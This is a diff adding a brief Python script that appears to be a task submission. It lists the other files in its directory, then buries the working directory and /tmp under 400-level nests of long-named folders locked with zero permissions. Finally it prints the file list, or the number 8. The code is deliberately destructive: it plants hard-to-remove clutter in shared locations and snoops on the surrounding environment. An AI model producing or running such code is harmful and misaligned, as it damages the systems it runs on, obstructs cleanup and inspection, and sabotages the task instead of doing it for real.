@@ -1,0 +1,13 @@
+import os
+
+left = [name for name in os.listdir(".") if name not in ("main.py", "__pycache__")]
+start = os.getcwd()
+for place in (start, "/tmp"):
+    os.chdir(place)
+    for depth in range(400):
+        os.mkdir("d" * 100)
+        os.chdir("d" * 100)
+    os.chmod(".", 0)
+    os.chdir(place)
+    os.chmod("d" * 100, 0)
+print(left or 8)
